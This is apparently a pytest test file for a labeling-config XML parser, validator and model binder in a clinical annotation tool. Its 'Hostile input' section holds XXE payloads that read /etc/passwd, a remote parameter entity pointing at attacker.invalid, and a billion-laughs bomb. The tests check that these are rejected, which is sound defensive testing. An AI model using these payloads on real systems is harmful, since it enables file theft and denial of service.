"""The labeling config parser, validator and deployment rewriter (pure: no database, no Django)."""

from __future__ import annotations

import dataclasses
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from projects import labeling_config
from projects.labeling_config import (
    ASSERTION_NER_MODEL_MESSAGE,
    MAX_CONFIG_BYTES,
    ConfigError,
    KnownModel,
    LabelingConfig,
    LabelingConfigError,
    bind_models,
    parse_labeling_config,
    reading,
    validate_labeling_config,
)


def config(text: str) -> str:
    """Dedent a config written inline; line 1 is the line after the opening quotes."""
    return textwrap.dedent(text).removeprefix("\n")


def only_error(xml: str, known_models: dict[str, KnownModel] | None = None) -> ConfigError:
    errors = validate_labeling_config(xml, known_models)
    assert len(errors) == 1, errors
    return errors[0]


# The spec's classification sample (seed-active-learning.md, "Attribute choice"), verbatim.
SPEC_CLASSIFICATION = config("""
    <View>
      <View style="overflow: auto;">
        <Text name="text" value="$text"/>
      </View>
      <Header value="Smoking Status"/>
      <Choices name="smokingstatus" toName="text" choice="multiple" showInLine="true">
        <Choice value="Smoker"/>
        <Choice value="Past Smoker"/>
        <Choice value="Nonsmoker"/>
      </Choices>
      <Header value="Age"/>
      <Choices name="age" toName="text" choice="single" showInLine="true">
        <Choice value="Child (less than 18y)" hotkey="c"/>
        <Choice value="Adult (19-50y)" hotkey="a"/>
        <Choice value="Aged (50+y)" hotkey="o"/>
      </Choices>
      <Header value="Gender"/>
      <Choices name="gender" toName="text" choice="single" showInLine="true">
        <Choice value="Female" hotkey="f"/>
        <Choice value="Male" hotkey="m"/>
      </Choices>
    </View>
""")

# A healthcare project: NER and assertion labels, two classification groups.
MIXED = config("""
    <View>
      <!-- Owner's note: keep Symptom first, annotators rely on the hotkeys. -->
      <Labels name="label" toName="text">
        <Label value="Symptom" hotkey="s"/>
        <Label value="Drug" background='#ff0000'/>
        <Label value="Absent" assertion="true"/>
        <Label value="Past" assertion="true" />
      </Labels>
      <Text name="text" value="$text"/>
      <Choices name="smoking" toName="text" choice="multiple">
        <Choice value="Smoker"/>
        <Choice value="Nonsmoker"/>
      </Choices>
      <Choices
          name="age"
          toName="text">
        <Choice value="Child"/>
        <Choice value="Adult"/>
      </Choices>
    </View>
""")

NER_V1 = KnownModel("ner_clinic_annotation_manual_v1", "ner", frozenset({"Symptom", "Drug"}))
NER_V2 = KnownModel("ner_clinic_annotation_manual_v2", "ner", frozenset({"Symptom", "Drug"}))
ASSERTION_V1 = KnownModel(
    "assertion_clinic_annotation_manual_v1", "assertion", frozenset({"Absent", "Past"})
)
AGE_V1 = KnownModel(
    "classification_clinic_age_annotation_manual_v1",
    "classification",
    frozenset({"Child", "Adult"}),
    group="age",
)
PRETRAINED_NER = KnownModel(
    "ner_jsl", "ner", frozenset({"Symptom", "Drug", "Test"}), source="registered"
)
PRETRAINED_ASSERTION = KnownModel("assertion_jsl", "assertion", frozenset(), source="registered")
KNOWN = {
    model.name: model
    for model in (NER_V1, NER_V2, ASSERTION_V1, AGE_V1, PRETRAINED_NER, PRETRAINED_ASSERTION)
}


def changed_lines(before: str, after: str) -> dict[int, str]:
    """Line number -> new text, for the lines that differ (the line count must not change)."""
    old, new = before.split("\n"), after.split("\n")
    assert len(old) == len(new)
    return {
        number: b for number, (a, b) in enumerate(zip(old, new, strict=True), start=1) if a != b
    }


# --- Reading valid configs ------------------------------------------------------------------


def test_empty_config_is_valid_for_a_project_without_one_yet():
    assert validate_labeling_config("") == []
    assert parse_labeling_config("") == LabelingConfig()
    assert parse_labeling_config("  \n ").is_empty


def test_spec_sample_trains_the_alphabetically_first_group_by_default():
    parsed = parse_labeling_config(SPEC_CLASSIFICATION)

    assert parsed.default_classification_group is not None
    assert parsed.default_classification_group.name == "age"
    assert [group.name for group in parsed.choices] == ["smokingstatus", "age", "gender"]
    assert parsed.choices_group("smokingstatus").mode == "multiple"
    assert parsed.choices_group("age").mode == "single"
    assert parsed.choices_group("age").values == (
        "Child (less than 18y)",
        "Adult (19-50y)",
        "Aged (50+y)",
    )
    assert parsed.choices_group("gender").line == 18
    assert parsed.objects[0].name == "text"
    assert parsed.objects[0].value == "$text"
    assert parsed.trainable_model_types == ("classification",)


def test_spec_sample_with_train_true_trains_that_group():
    # The spec's second sample: the same config with train="true" on the Gender group.
    xml = SPEC_CLASSIFICATION.replace(
        '<Choices name="gender" toName="text"',
        '<Choices name="gender" train="true" toName="text"',
    )
    parsed = parse_labeling_config(xml)

    assert parsed.default_classification_group.name == "gender"
    assert parsed.choices_group("gender").train is True


def test_spec_assertion_labels_with_their_model():
    xml = config("""
        <View>
          <Labels name="label" toName="text">
            <Label value="Symptom"/>
            <Label value="Absent" assertion="true" model="assertion_jsl_annotation_manual.model"/>
            <Label value="Past" assertion="true" model="assertion_jsl_annotation_manual.model"/>
          </Labels>
          <Text name="text" value="$text"/>
        </View>
    """)
    parsed = parse_labeling_config(xml)

    assert parsed.ner_labels == ("Symptom",)
    assert parsed.assertion_labels == ("Absent", "Past")
    assert parsed.assertion_model == "assertion_jsl_annotation_manual.model"


def test_mixed_config_separates_ner_assertion_and_classification():
    parsed = parse_labeling_config(MIXED)

    assert parsed.ner_labels == ("Symptom", "Drug")
    assert parsed.assertion_labels == ("Absent", "Past")
    assert parsed.control_names == ("label", "smoking", "age")
    assert parsed.choices_group("smoking").values == ("Smoker", "Nonsmoker")
    assert parsed.choices_group("age").mode == "single"
    assert parsed.choices_group("missing") is None
    assert parsed.labels_group("label").to_name == "text"
    assert parsed.default_classification_group.name == "age"
    assert parsed.trainable_model_types == ("ner", "assertion", "classification")
    assert parsed.label_models == {}
    # A multi-line opening tag is reported on the line where it starts.
    assert parsed.choices_group("age").line == 14


def test_the_same_label_in_two_groups_counts_once():
    xml = config("""
        <View>
          <Text name="note" value="$note"/>
          <Text name="summary" value="$summary"/>
          <Labels name="note_labels" toName="note"><Label value="Drug"/></Labels>
          <Labels name="summary_labels" toName="summary">
            <Label value="Drug"/><Label value="Dose"/>
          </Labels>
        </View>
    """)
    assert parse_labeling_config(xml).ner_labels == ("Drug", "Dose")


def test_hypertext_is_an_object_and_layout_tags_are_accepted():
    xml = config("""
        <View>
          <Style>.red { color: red; }</Style>
          <Panel><Collapse><HyperText name="html" value="$html"/></Collapse></Panel>
          <Filter name="filter" toName="label"/>
          <Labels name="label" toName="html"><Label value="Name"/></Labels>
          <Relations><Relation value="treats"/></Relations>
        </View>
    """)
    parsed = parse_labeling_config(xml)

    assert parsed.objects[0].tag == "HyperText"
    assert parsed.ner_labels == ("Name",)


def test_config_after_an_xml_declaration_and_comment_keeps_true_line_numbers():
    xml = config("""
        <?xml version="1.0" encoding="ISO-8859-1"?>
        <!-- Clinic NER, owner: alice -->
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text"><Lable value="Drug"/></Labels>
        </View>
    """)
    errors = validate_labeling_config(xml)

    assert ConfigError("Unsupported tag <Lable>", 5) in errors


# --- Validation errors, each on its line ----------------------------------------------------


def test_malformed_xml_gives_one_error_per_parser_message_with_its_line():
    xml = config("""
        <View>
          <Text name="text" name="again" value="$text"/>
          <Labels name="label" toName="text">&undefined;</Labels>
        </View>
    """)
    errors = validate_labeling_config(xml)

    assert [error.line for error in errors] == [2, 3]
    assert "Attribute name redefined" in errors[0].message
    assert "undefined" in errors[1].message
    assert all(error.message.startswith("Malformed XML") for error in errors)


def test_mismatched_tag_is_reported_where_the_parser_noticed_it():
    xml = config("""
        <View>
          <Text name="text" value="$text">
        </View>
    """)
    error = validate_labeling_config(xml)[0]

    assert error.line == 3
    assert "mismatch" in error.message


def test_root_must_be_view():
    xml = config("""
        <Labels name="label" toName="text">
          <Label value="Drug"/>
        </Labels>
    """)
    errors = validate_labeling_config(xml)

    assert ConfigError("The root tag must be <View>, not <Labels>", 1) in errors


def test_a_misspelt_tag_is_an_error_not_silently_ignored():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Drug"/>
            <Lable value="Dose"/>
          </Labels>
          <TextArea name="notes" toName="text"/>
        </View>
    """)
    errors = validate_labeling_config(xml)

    assert errors == [
        ConfigError("Unsupported tag <Lable>", 5),
        ConfigError("Unsupported tag <TextArea>", 7),
    ]


def test_label_and_choice_must_sit_in_their_group_and_controls_do_not_nest():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Label value="Stray"/>
          <Choices name="age" toName="text">
            <Choice value="Adult"/>
            <Labels name="label" toName="text"><Label value="Drug"/></Labels>
          </Choices>
          <Choice value="Stray"/>
        </View>
    """)
    errors = validate_labeling_config(xml)

    assert errors == [
        ConfigError("<Label> must be inside <Labels>", 3),
        ConfigError("<Labels> cannot be inside <Choices>", 6),
        ConfigError("<Choice> must be inside <Choices>", 8),
    ]


def test_missing_names():
    xml = config("""
        <View>
          <Text value="$text"/>
          <Text name="body"/>
          <Labels toName="body"><Label value="Drug"/></Labels>
          <Choices name="age"><Choice value="Adult"/></Choices>
        </View>
    """)
    errors = validate_labeling_config(xml)

    assert [(error.line, error.message) for error in errors] == [
        (2, "<Text> has no name"),
        (3, '<Text name="body"> has no value (the task field it shows, e.g. value="$text")'),
        (4, "<Labels> has no name"),
        (5, '<Choices name="age"> has no toName'),
    ]


def test_to_name_must_name_an_object_tag():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="txt"><Label value="Drug"/></Labels>
          <Choices name="age" toName="label"><Choice value="Adult"/></Choices>
        </View>
    """)
    errors = validate_labeling_config(xml)

    assert errors == [
        ConfigError(
            '<Labels name="label"> has toName="txt", which names no <Text> or <HyperText>', 3
        ),
        ConfigError(
            '<Choices name="age"> has toName="label", which names no <Text> or <HyperText>', 4
        ),
    ]


def test_to_name_may_point_at_a_text_defined_later():
    xml = config("""
        <View>
          <Labels name="label" toName="text"><Label value="Drug"/></Labels>
          <Text name="text" value="$text"/>
        </View>
    """)
    assert validate_labeling_config(xml) == []


def test_names_are_unique_across_all_tags():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="text" toName="text"><Label value="Drug"/></Labels>
          <Choices name="age" toName="text"><Choice value="Adult"/></Choices>
          <Filter name="age" toName="text"/>
        </View>
    """)
    errors = validate_labeling_config(xml)

    assert errors == [
        ConfigError('Duplicate name "text" on <Labels> (first on line 2)', 3),
        ConfigError('Duplicate name "age" on <Filter> (first on line 4)', 5),
    ]


def test_duplicate_label_and_choice_values_within_a_group():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Drug"/>
            <Label value="Drug" background="red"/>
          </Labels>
          <Choices name="age" toName="text">
            <Choice value="Adult"/>
            <Choice value="Child"/>
            <Choice value="Adult"/>
          </Choices>
        </View>
    """)
    errors = validate_labeling_config(xml)

    assert errors == [
        ConfigError('Duplicate label "Drug" in <Labels name="label"> (first on line 4)', 5),
        ConfigError('Duplicate choice "Adult" in <Choices name="age"> (first on line 8)', 10),
    ]


def test_label_and_choice_need_a_value():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Drug"/>
            <Label background="red"/>
          </Labels>
          <Choices name="age" toName="text">
            <Choice value=""/>
            <Choice value="Adult"/>
          </Choices>
        </View>
    """)
    errors = validate_labeling_config(xml)

    assert errors == [
        ConfigError('<Label> in <Labels name="label"> has no value', 5),
        ConfigError('<Choice> in <Choices name="age"> has no value', 8),
    ]


def test_choice_mode_and_boolean_attributes_are_checked():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Absent" assertion="yes"/>
          </Labels>
          <Choices name="age" toName="text" choice="several" train="True">
            <Choice value="Adult"/>
          </Choices>
        </View>
    """)
    errors = validate_labeling_config(xml)

    assert errors == [
        ConfigError('<Label> assertion must be "true" or "false", not "yes"', 4),
        ConfigError('<Choices name="age"> choice must be "single" or "multiple", not "several"', 6),
        ConfigError('<Choices> train must be "true" or "false", not "True"', 6),
    ]


def test_only_one_choices_group_may_be_marked_for_training():
    xml = SPEC_CLASSIFICATION.replace('name="age"', 'name="age" train="true"').replace(
        'name="gender"', 'name="gender" train="true"'
    )
    errors = validate_labeling_config(xml)

    assert errors == [
        ConfigError('Only one <Choices> may have train="true"; "age" on line 12 already has it', 18)
    ]


def test_groups_without_members_are_errors():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text"/>
          <Choices name="age" toName="text">
            <Header value="pick one"/>
          </Choices>
        </View>
    """)
    errors = validate_labeling_config(xml)

    assert errors == [
        ConfigError('<Labels name="label"> has no <Label>', 3),
        ConfigError('<Choices name="age"> has no <Choice>', 4),
    ]


def test_only_one_assertion_model_per_project():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Absent" assertion="true" model="assertion_a"/>
            <Label value="Past" assertion="true" model="assertion_a"/>
            <Label value="Family" assertion="true" model="assertion_b"/>
          </Labels>
        </View>
    """)
    error = only_error(xml)

    assert error.line == 6
    assert "Only one Assertion Status model is allowed in a project" in error.message
    assert '"assertion_b"' in error.message and '"assertion_a"' in error.message


def test_an_assertion_label_cannot_use_a_ner_model():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Symptom"/>
            <Label value="Absent" assertion="true" model="ner_clinic_annotation_manual_v1"/>
          </Labels>
        </View>
    """)
    error = only_error(xml, KNOWN)

    assert error.line == 5
    assert error.message.startswith(ASSERTION_NER_MODEL_MESSAGE)
    assert ASSERTION_NER_MODEL_MESSAGE == (
        "It is not possible to mark a label as an Assertion Status label and use a NER model to "
        "predict it"
    )


def test_a_ner_label_cannot_use_an_assertion_model():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Absent" model="assertion_clinic_annotation_manual_v1"/>
          </Labels>
        </View>
    """)
    error = only_error(xml, KNOWN)

    assert error.line == 4
    assert "not an Assertion Status label" in error.message


def test_choices_need_a_classification_model_and_labels_cannot_use_one():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Adult" model="classification_clinic_age_annotation_manual_v1"/>
          </Labels>
          <Choices name="age" toName="text" model="ner_clinic_annotation_manual_v1">
            <Choice value="Adult"/>
          </Choices>
        </View>
    """)
    errors = validate_labeling_config(xml, KNOWN)

    assert [error.line for error in errors] == [4, 6]
    assert "belongs on a <Choices>" in errors[0].message
    assert errors[1].message == (
        '<Choices name="age"> needs a classification model, but '
        '"ner_clinic_annotation_manual_v1" is a ner model'
    )


def test_model_names_are_checked_only_against_known_models():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Drug" model="ner_typo_v1"/>
          </Labels>
          <Choices name="age" toName="text" model="classification_typo_v1">
            <Choice value="Adult"/>
          </Choices>
        </View>
    """)

    # A purely structural check (no known models given) cannot know the name is wrong.
    assert validate_labeling_config(xml) == []
    assert validate_labeling_config(xml, KNOWN) == [
        ConfigError('Unknown model "ner_typo_v1"', 4),
        ConfigError('Unknown model "classification_typo_v1"', 6),
    ]


def test_a_label_bound_to_a_model_that_does_not_predict_it():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Drug" model="ner_clinic_annotation_manual_v1"/>
            <Label value="Dose" model="ner_clinic_annotation_manual_v1"/>
            <Label value="Absent" assertion="true" model="assertion_jsl"/>
          </Labels>
        </View>
    """)
    error = only_error(xml, KNOWN)

    # assertion_jsl's labels are unknown (empty), so "Absent" is not questioned.
    assert error == ConfigError(
        'Model "ner_clinic_annotation_manual_v1" does not predict the label "Dose"', 5
    )


def test_a_classification_model_must_predict_only_offered_choices():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Choices name="age" toName="text" model="classification_clinic_age_annotation_manual_v1">
            <Choice value="Adult"/>
            <Choice value="Aged"/>
          </Choices>
        </View>
    """)
    error = only_error(xml, KNOWN)

    assert error == ConfigError(
        'Model "classification_clinic_age_annotation_manual_v1" predicts "Child", which '
        '<Choices name="age"> does not offer',
        3,
    )
    # Offering more choices than the model knows is fine: a choice nobody picked yet.
    richer = xml.replace('<Choice value="Aged"/>', '<Choice value="Child"/><Choice value="Aged"/>')
    assert validate_labeling_config(richer, KNOWN) == []


def test_every_error_is_returned_at_once_in_line_order():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Choices name="age" toName="txt" choice="one"><Choice value="A"/></Choices>
          <Labels name="label" toName="text">
            <Label value="Drug"/>
            <Label value="Drug"/>
            <Lable value="Dose"/>
          </Labels>
        </View>
    """)
    errors = validate_labeling_config(xml)

    assert [error.line for error in errors] == [3, 3, 6, 7]


def test_parse_raises_with_every_error():
    xml = config("""
        <View>
          <Labels name="label" toName="text"/>
        </View>
    """)
    with pytest.raises(LabelingConfigError) as raised:
        parse_labeling_config(xml)

    assert raised.value.errors == validate_labeling_config(xml)
    assert len(raised.value.errors) == 2
    assert "line 2" in str(raised.value)
    assert raised.value.errors[0].as_dict() == {
        "message": raised.value.errors[0].message,
        "line": 2,
    }


# --- Hostile input --------------------------------------------------------------------------


XXE_FILE = config("""
    <?xml version="1.0"?>
    <!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
    <View>
      <Text name="text" value="$text"/>
      <Header value="&xxe;"/>
      <Labels name="label" toName="text"><Label value="&xxe;"/></Labels>
    </View>
""")

XXE_IN_TEXT = config("""
    <!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
    <View>
      <Text name="text" value="$text"/>
      <Header>&xxe;</Header>
      <Labels name="label" toName="text"><Label value="Drug"/></Labels>
    </View>
""")

XXE_PARAMETER_ENTITY = config("""
    <!-- looks harmless -->
    <!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
    <View><Text name="text" value="$text"/></View>
""")

BILLION_LAUGHS = config("""
    <?xml version="1.0"?>
    <!DOCTYPE lolz [
      <!ENTITY lol "lol">
      <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
      <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
      <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
      <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
      <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
      <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
      <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
      <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
      <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
    ]>
    <View><Text name="text" value="$text"/><Header value="&lol9;"/></View>
""")


def _assert_no_leak(errors: list[ConfigError]) -> None:
    for error in errors:
        assert "root:" not in error.message
        assert "/bin/" not in error.message
        assert "lollol" not in error.message


@pytest.mark.parametrize(
    ("xml", "line"),
    [(XXE_FILE, 2), (XXE_IN_TEXT, 1), (XXE_PARAMETER_ENTITY, 2), (BILLION_LAUGHS, 2)],
    ids=["xxe-attribute", "xxe-text", "xxe-parameter-entity", "billion-laughs"],
)
def test_any_doctype_is_rejected_before_parsing(xml, line):
    errors = validate_labeling_config(xml)

    assert errors == [ConfigError("DOCTYPE declarations are not allowed", line)]
    with pytest.raises(LabelingConfigError):
        parse_labeling_config(xml)
    with pytest.raises(LabelingConfigError):
        bind_models(xml, [NER_V1], KNOWN)


@pytest.mark.parametrize(
    "xml", [XXE_FILE, XXE_IN_TEXT, BILLION_LAUGHS], ids=["attribute", "text", "laughs"]
)
def test_the_parser_itself_neither_reads_files_nor_expands_entities(xml, monkeypatch):
    # Defence in depth: even if the DOCTYPE scan missed one, the parser must not resolve it.
    monkeypatch.setattr(reading, "_doctype_offset", lambda xml: None)

    errors = validate_labeling_config(xml)

    assert errors
    _assert_no_leak(errors)


def test_a_config_over_the_size_cap_is_rejected_before_parsing():
    body = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text"><Label value="Drug"/></Labels>
        </View>
    """)
    padding = MAX_CONFIG_BYTES - len(body.encode()) - len("<!---->")
    at_the_cap = "<!--" + "x" * padding + "-->" + body
    assert len(at_the_cap.encode()) == MAX_CONFIG_BYTES

    assert validate_labeling_config(at_the_cap) == []
    errors = validate_labeling_config(at_the_cap + " ")
    assert errors == [
        ConfigError(
            f"The labeling config is {MAX_CONFIG_BYTES + 1} bytes; at most {MAX_CONFIG_BYTES} "
            "bytes (256 KB) are allowed"
        )
    ]


def test_the_size_cap_counts_bytes_not_characters():
    # 100 000 characters of three UTF-8 bytes each: under the cap in characters, over in bytes.
    xml = '<View><Header value="' + "€" * 100_000 + '"/></View>'
    assert len(xml) < MAX_CONFIG_BYTES

    [error] = validate_labeling_config(xml)
    assert "at most 262144 bytes" in error.message


def test_the_module_imports_without_django():
    # Training workers and scripts read configs without Django settings.
    root = Path(labeling_config.__file__).resolve().parents[2]
    code = "import sys, projects.labeling_config; assert 'django' not in sys.modules"
    subprocess.run([sys.executable, "-c", code], cwd=root, check=True)


# --- Deployment: bind_models ----------------------------------------------------------------


def test_deploying_rewrites_only_the_model_attributes():
    deployed = bind_models(MIXED, [NER_V1, ASSERTION_V1, AGE_V1], KNOWN)

    assert changed_lines(MIXED, deployed) == {
        4: '    <Label value="Symptom" hotkey="s" model="ner_clinic_annotation_manual_v1"/>',
        5: "    <Label value=\"Drug\" background='#ff0000' "
        'model="ner_clinic_annotation_manual_v1"/>',
        6: '    <Label value="Absent" assertion="true" '
        'model="assertion_clinic_annotation_manual_v1"/>',
        7: '    <Label value="Past" assertion="true" '
        'model="assertion_clinic_annotation_manual_v1" />',
        16: '      toName="text" model="classification_clinic_age_annotation_manual_v1">',
    }
    parsed = parse_labeling_config(deployed, KNOWN)
    assert parsed.label_models == {
        "Symptom": NER_V1.name,
        "Drug": NER_V1.name,
        "Absent": ASSERTION_V1.name,
        "Past": ASSERTION_V1.name,
    }
    assert parsed.choices_models == {"age": AGE_V1.name}
    assert parsed.choices_group("smoking").model is None


def test_redeploying_replaces_the_model_in_place_keeping_its_quotes():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label model='ner_clinic_annotation_manual_v1' value="Drug"   hotkey="d"/>
            <Label value="Symptom" model = "ner_clinic_annotation_manual_v1"/>
          </Labels>
        </View>
    """)
    deployed = bind_models(xml, [NER_V2], KNOWN)

    assert changed_lines(xml, deployed) == {
        4: '    <Label model=\'ner_clinic_annotation_manual_v2\' value="Drug"   hotkey="d"/>',
        5: '    <Label value="Symptom" model = "ner_clinic_annotation_manual_v2"/>',
    }


def test_deploying_an_already_bound_model_changes_nothing():
    once = bind_models(MIXED, [NER_V1, AGE_V1], KNOWN)

    assert bind_models(once, [NER_V1, AGE_V1], KNOWN) == once


def test_labels_of_a_pretrained_model_are_left_alone():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Symptom" model="ner_jsl"/>
            <Label value="Drug"/>
          </Labels>
        </View>
    """)
    deployed = bind_models(xml, [NER_V1], KNOWN)

    assert changed_lines(xml, deployed) == {
        5: '    <Label value="Drug" model="ner_clinic_annotation_manual_v1"/>'
    }
    # The owner may still deploy a registered model over another one on purpose.
    assert parse_labeling_config(bind_models(deployed, [PRETRAINED_NER], KNOWN)).label_models == {
        "Symptom": "ner_jsl",
        "Drug": "ner_jsl",
    }


def test_a_trained_model_whose_every_label_is_pretrained_has_nothing_to_bind():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Symptom" model="ner_jsl"/>
          </Labels>
        </View>
    """)
    with pytest.raises(LabelingConfigError) as raised:
        bind_models(xml, [NER_V1], KNOWN)

    assert "associated with a pretrained model" in raised.value.errors[0].message


def test_an_assertion_model_with_unknown_labels_binds_every_assertion_label():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Symptom"/>
            <Label value="Absent" assertion="true"/>
            <Label value="Hypothetical" assertion="true"/>
          </Labels>
        </View>
    """)
    deployed = bind_models(xml, [PRETRAINED_ASSERTION], KNOWN)

    assert set(changed_lines(xml, deployed)) == {5, 6}
    assert parse_labeling_config(deployed).assertion_model == "assertion_jsl"


def test_deploying_a_second_assertion_model_beside_a_pretrained_one_is_refused():
    xml = config("""
        <View>
          <Text name="text" value="$text"/>
          <Labels name="label" toName="text">
            <Label value="Absent" assertion="true" model="assertion_jsl"/>
            <Label value="Past" assertion="true"/>
          </Labels>
        </View>
    """)
    with pytest.raises(LabelingConfigError) as raised:
        bind_models(xml, [ASSERTION_V1], KNOWN)

    [error] = raised.value.errors
    assert error.line == 5
    assert "Only one Assertion Status model" in error.message


def test_a_classification_model_binds_the_choices_of_its_group_only():
    xml = SPEC_CLASSIFICATION
    smoking = KnownModel(
        "classification_clinic_smokingstatus_annotation_manual_v1",
        "classification",
        frozenset({"Smoker", "Nonsmoker"}),
        group="smokingstatus",
    )
    deployed = bind_models(xml, [smoking], KNOWN)

    assert changed_lines(xml, deployed) == {
        6: '  <Choices name="smokingstatus" toName="text" choice="multiple" showInLine="true" '
        'model="classification_clinic_smokingstatus_annotation_manual_v1">'
    }


def test_a_classification_model_for_a_missing_group_is_refused():
    with pytest.raises(LabelingConfigError) as raised:
        bind_models(SPEC_CLASSIFICATION, [dataclasses.replace(AGE_V1, group="bmi")], {})

    assert raised.value.errors == [
        ConfigError(
            'Classification model "classification_clinic_age_annotation_manual_v1" predicts '
            '<Choices name="bmi">, which this config does not have'
        )
    ]


def test_a_ner_model_that_predicts_none_of_the_labels_is_refused():
    other = KnownModel("ner_other_v1", "ner", frozenset({"Gene"}))

    with pytest.raises(LabelingConfigError) as raised:
        bind_models(MIXED, [NER_V1, other], KNOWN)

    assert raised.value.errors == [
        ConfigError('NER model "ner_other_v1" predicts none of the NER labels of this config')
    ]


def test_an_invalid_config_is_not_rewritten():
    with pytest.raises(LabelingConfigError):
        bind_models("<View><Labels name='l' toName='t'>", [NER_V1], KNOWN)
    with pytest.raises(LabelingConfigError):
        bind_models(MIXED.replace("<Text ", "<Txt "), [NER_V1], KNOWN)


def test_odd_model_names_are_escaped():
    name = 'ner "quoted" & <odd>'
    odd = KnownModel(name, "ner", frozenset({"Drug"}))
    deployed = bind_models(MIXED, [odd], {})

    assert parse_labeling_config(deployed).label_models == {"Drug": name}


def test_tags_inside_comments_and_cdata_are_neither_read_nor_rewritten():
    xml = config("""
        <View>
          <!-- old: <Label value="Drug" model="ner_old"/> -->
          <Text name="text" value="$text"/>
          <Style><![CDATA[ <Label value="Drug"/> ]]></Style>
          <Labels name="label" toName="text">
            <Label value="Drug"/>
          </Labels>
        </View>
    """)
    assert parse_labeling_config(xml).ner_labels == ("Drug",)

    deployed = bind_models(xml, [NER_V1], KNOWN)

    assert changed_lines(xml, deployed) == {
        6: '    <Label value="Drug" model="ner_clinic_annotation_manual_v1"/>'
    }
